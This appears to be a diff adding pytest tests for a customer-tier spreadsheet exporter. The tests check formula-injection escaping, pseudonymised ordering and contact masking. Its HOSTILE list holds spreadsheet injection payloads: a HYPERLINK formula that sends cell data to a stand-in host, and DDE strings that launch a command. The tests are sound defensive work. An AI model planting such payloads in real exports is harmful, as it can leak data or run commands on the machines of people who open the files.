@@ -226,3 +226,93 @@ def test_bad_extension(data, tmp_path):
     _, customers, hist = data
     with pytest.raises(DataError, match=r"\.xlsx or \.csv"):
         export_tier_table(hist, customers, tmp_path / "tiers.json")
+
+
+# ------------------------------------------------------------------------------------- hostile text
+HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab first", "\rCR first", "=1+1"]
+
+
+@pytest.fixture(scope="module")
+def hostile(data):
+    """Names and notes that start like spreadsheet formulas, and a tier named like one."""
+    tx, customers, hist = data
+    customers = customers.copy()
+    rows = np.flatnonzero(customers["customer_id"].isin(hist.customer_ids))[:len(HOSTILE)]
+    customers.loc[customers.index[rows], "name"] = HOSTILE
+    customers.loc[customers.index[rows], "notes"] = HOSTILE
+    rules = TierScheme.from_yaml(RULES / "monthly_spend.yaml").to_dict()
+    rules["tiers"][0]["name"] = "=Low"
+    hist = TierScheme.from_dict(rules).run(tx, customers=customers)
+    return customers, hist
+
+
+def test_excel_text_cells_are_never_formulas(hostile, tmp_path):
+    customers, hist = hostile
+    path = export_tier_table(hist, customers, tmp_path / "tiers.xlsx", mask_contacts=False)
+    wb = openpyxl.load_workbook(path)  # a full load: data_type is what Excel will see
+    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
+                for c in row if c.data_type in ("f", "e")]
+    assert formulas == []
+    names = {c.value for c in wb["tiers"]["B"][1:]}
+    # the text itself is kept exactly (XML reads a CR back as a line feed)
+    assert {t.replace("\r", "\n") for t in HOSTILE} <= names
+    assert "=Low" in {c.value for c in wb["tiers"]["D"][1:]}
+    wb.close()
+
+
+def test_csv_text_cells_start_with_a_quote_numbers_untouched(hostile, tmp_path):
+    customers, hist = hostile
+    path = export_tier_table(hist, customers, tmp_path / "tiers.csv", mask_contacts=False)
+    table = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert len(table) == len(hist.customer_ids)  # a CR in a name did not break a row
+    for col in table.columns:
+        first = table[col].str[:1]
+        assert not first.isin(["=", "+", "-", "@", "\t", "\r"]).any(), col
+    assert {"'" + t for t in HOSTILE} <= set(table["name"])
+    assert "'=Low" in set(table["tier"])
+    summary = pd.read_csv(tmp_path / "tiers_summary.csv", encoding="utf-8-sig")
+    assert summary["customers"].dtype.kind == "i" and summary["share"].dtype.kind == "f"
+    changes = pd.read_csv(tmp_path / "tiers_changes.csv", encoding="utf-8-sig")
+    assert "'=Low" in set(changes["to_tier"])
+
+
+# ------------------------------------------------------------------------------------- pseudonyms
+def test_pseudonymized_rows_do_not_keep_the_id_order(data, tmp_path):
+    _, customers, hist = data
+    path = export_tier_table(hist, customers, tmp_path / "p.xlsx", pseudonymize=True, salt="k")
+    sheets = pd.read_excel(path, sheet_name=None, dtype={"customer_id": str})
+    tiers, changes = sheets["tiers"], sheets["changes"]
+    # within a tier, rows follow the pseudonyms, not the original ids
+    for _, ids in tiers.groupby("tier", sort=False)["customer_id"]:
+        assert list(ids) == sorted(ids)
+    # changes: by pseudonym, then review; never in the original id order
+    keys = list(zip(changes["customer_id"], pd.to_datetime(changes["review"]), strict=True))
+    assert keys == sorted(keys)
+    pseudo_of = dict(zip(hist.customer_ids,
+                         pseudonymize_ids(pd.Series(list(hist.customer_ids)), salt="k"),
+                         strict=True))
+    in_id_order = [pseudo_of[c] for c in sorted(hist.customer_ids)]
+    assert list(dict.fromkeys(changes["customer_id"])) != in_id_order
+
+
+# ------------------------------------------------------------------------------------- masking
+def test_phones_with_dots_and_second_emails_are_masked_in_every_file(data, tmp_path):
+    tx, customers, hist = data
+    customers = customers.copy()
+    secrets_ = ["138.1234.5678", "139 8765 4321", "alice@corp.example", "bob.two@corp.example"]
+    a, b, c, d = customers.index[np.flatnonzero(customers["customer_id"].isin(
+        hist.customer_ids))[10:14]]  # customers who are in the table
+    customers.loc[a, "notes"] = "mobile 138.1234.5678, office 139 8765 4321"
+    customers.loc[b, "notes"] = "cc alice@corp.example; bob.two@corp.example"
+    customers.loc[c, "email"] = "alice@corp.example; bob.two@corp.example"
+    customers.loc[d, "phone"] = "138.1234.5678"
+    hist = TierScheme.from_yaml(RULES / "monthly_spend.yaml").run(tx, customers=customers)
+    xlsx = export_tier_table(hist, customers, tmp_path / "t.xlsx")
+    csv_path = export_tier_table(hist, customers, tmp_path / "t.csv")
+    texts = {"xlsx": all_cell_text(xlsx), "csv": csv_path.read_text(encoding="utf-8-sig")}
+    for where, text in texts.items():
+        for secret in secrets_:
+            assert secret not in text, (where, secret)
+        assert "lice@" not in text and "ob.two@" not in text, where
+        assert "a***@corp.example" in text and "b***@corp.example" in text, where
